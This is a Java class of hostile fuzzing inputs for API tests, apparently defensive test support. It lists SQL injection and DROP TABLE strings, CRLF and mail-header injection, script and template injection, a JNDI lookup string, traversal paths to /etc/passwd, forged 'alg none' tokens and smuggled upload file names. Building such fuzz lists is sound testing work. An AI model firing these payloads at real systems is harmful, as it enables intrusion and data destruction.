package nl.werkbank.common;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * S-2: the hostile values the fuzzer puts where the contract expects something ordinary. JSON
 * values are raw JSON text, so they can hold what a JSON library would never write: lone
 * surrogates as escapes, numbers beyond every type, duplicated keys, malformed documents.
 */
final class HostilePayloads {

    private static final ObjectMapper JSON = new ObjectMapper();

    private HostilePayloads() {}

    /** Strings a person could type or an attacker could send, each for a reason named beside it. */
    static final List<String> STRINGS = List.of(
            // SQL injection
            "' OR '1'='1",
            "'; DROP TABLE account; --",
            "1) UNION SELECT null, current_user --",
            "\\'; SELECT pg_sleep(0); --",
            // header and mail-header injection
            "someone@example.org\r\nBcc: victim@example.org",
            "Petra\r\nSubject: You won",
            "line\nX-Injected: 1",
            "\r\n\r\n<html>injected body</html>",
            "=?UTF-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?=",
            "\"Evil\" <evil@example.org>, victim@example.org",
            // template, markup, lookups
            "<script>alert(1)</script>",
            "{inject:mailer}",
            "{#include /etc/passwd /}",
            "${jndi:ldap://example.org/a}",
            "{{7*7}}",
            // paths
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            // unicode edges
            "\u0000",
            "before\u0000after",
            "\u202Egnp.exe",
            "e" + "\u0301".repeat(400),
            "\uD83D\uDE00".repeat(200),
            "\uD835\uDD4F",
            "\uFEFF",
            "\u2028\u2029",
            "\u0007\u001b[31mred",
            "\u00A0\u00A0",
            // blank and overlong
            "",
            " ",
            "\t\t",
            "a".repeat(10_000),
            "\u00e9".repeat(4_000));

    /** Raw JSON values: escapes no library writes, numbers of every extreme, every wrong type. */
    static final List<String> RAW_JSON_VALUES;

    static {
        List<String> values = new ArrayList<>();
        STRINGS.forEach(s -> values.add(quote(s)));
        values.addAll(List.of(
                "\"\\ud800\"",
                "\"a\\udfffb\"",
                "\"\\udc00\\ud800\"",
                "\"\\u0000\"",
                "\"x\\u0000y\"",
                "1e400",
                "-1e400",
                "1e-400",
                "-0",
                "-0.0",
                "0",
                "-1",
                "2147483648",
                "-2147483649",
                "9223372036854775808",
                "123456789012345678901234567890123456789",
                "1" + "0".repeat(1_200),
                "1.5",
                "\"NaN\"",
                "\"Infinity\"",
                "\"-0\"",
                "\"1e400\"",
                "true",
                "false",
                "null",
                "[]",
                "{}",
                "[null]",
                "[[[[]]]]",
                "{\"a\":{\"b\":{}}}",
                "[" + "\"x\",".repeat(5_000) + "\"x\"]",
                "[" + "[".repeat(1_500) + "]".repeat(1_500) + "]",
                "{\"a\":".repeat(1_500) + "1" + "}".repeat(1_500)));
        RAW_JSON_VALUES = List.copyOf(values);
    }

    /** Not JSON at all, where a value should be: the parser must refuse, not the database. */
    static final List<String> MALFORMED_JSON_VALUES =
            List.of("NaN", "Infinity", "-Infinity", "'single'", "0x10", "01", "+1", ".5", "tru", "\"open", "undefined");

    /** A value so long the whole body passes the JSON body limit. */
    static String oversizedJsonValue() {
        return quote("x".repeat(70 * 1024));
    }

    /** Path segments that are not the id the path expects; already percent-encoded where needed. */
    static final List<String> PATH_SEGMENTS;

    static {
        List<String> segments = new ArrayList<>(List.of(
                "%00",
                "..%2F..%2Fetc%2Fpasswd",
                "%2e%2e",
                "%0d%0aSet-Cookie:%20a=b",
                "1'%20OR%20'1'='1",
                "%F0%9F%98%80",
                "%ED%A0%80",
                "%C3%28",
                "%FF%FE",
                "%E2%80%AE",
                "00000000-0000-0000-0000-000000000000",
                "ffffffff-ffff-ffff-ffff-ffffffffffff",
                "-1",
                "0",
                "1e400",
                "99999999999999999999999999",
                "null",
                "%20",
                "a;b=c",
                "a%2Fb",
                "%25",
                "~",
                "a".repeat(2_000)));
        STRINGS.stream().limit(12).map(HostilePayloads::encode).forEach(segments::add);
        PATH_SEGMENTS = List.copyOf(segments);
    }

    /** Query values, percent-encoded, including encoded CR/LF and bytes that are not UTF-8. */
    static final List<String> QUERY_VALUES;

    static {
        List<String> values = new ArrayList<>(List.of(
                "-1",
                "0",
                "1e400",
                "-0",
                "NaN",
                "99999999999999999999",
                "2147483648",
                "",
                "%0d%0aSet-Cookie:%20a=b",
                "%00",
                "%ED%A0%80",
                "%C3%28",
                "%FF",
                "true",
                "%5B%5D",
                "a".repeat(3_000)));
        STRINGS.forEach(s -> values.add(encode(s)));
        QUERY_VALUES = List.copyOf(values);
    }

    /** Header values: legal on the wire (no CR, LF or NUL), hostile in meaning. */
    static final List<String> HEADER_VALUES = List.of(
            "' OR '1'='1",
            "'; DROP TABLE account; --",
            "../../etc/passwd",
            "\u00e9\u00ff\u0080",
            "\uD83D\uDE00",
            "*;q=NaN",
            "en;q=1e400",
            "nl-NL,en;q=0.9,*;q=-1",
            ",,,,",
            "",
            " ",
            "a".repeat(4_000),
            "W/\"" + "x".repeat(500),
            "${jndi:ldap://example.org/a}",
            "%0d%0aX-Injected:%201");

    /** Authorization values that are not a valid token of the realm. */
    static List<String> authorizations(String validToken) {
        String header = base64Url("{\"alg\":\"none\",\"typ\":\"JWT\"}");
        String payload = validToken.split("\\.")[1];
        return List.of(
                "Bearer",
                "Bearer ",
                "Bearer garbage",
                "Bearer " + header + "." + payload + ".",
                "Bearer " + validToken + "x",
                "Bearer " + validToken.substring(0, validToken.length() - 8),
                "Bearer a.b.c",
                "Bearer " + "a".repeat(6_000),
                "Basic YWRtaW46YWRtaW4=",
                "bearer " + validToken + " extra",
                "Bearer ' OR '1'='1");
    }

    /** Content types a body may claim, against what it is. */
    static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "application/octet-stream",
            "application/json; charset=utf-16",
            "application/json; charset=klingon",
            "application/json;" + "a".repeat(3_000),
            "*/*",
            "application/problem+json",
            "application/merge-patch+json",
            "json",
            "");

    /** File names a multipart upload may carry. */
    static final List<String> FILE_NAMES = List.of(
            "../../../../etc/passwd",
            "..\\..\\..\\evil.pdf",
            "/etc/passwd",
            "C:\\Windows\\system32\\evil.pdf",
            "cv.pdf\u0000.exe",
            "cv\u202Efdp.exe",
            "a".repeat(1_000) + ".pdf",
            "",
            "%2e%2e%2fcv.pdf",
            "cv\";filename=\"evil.sh",
            "\uD83D\uDE00.pdf",
            "cv.PDF",
            ".pdf",
            "con.pdf");

    static String quote(String value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String base64Url(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
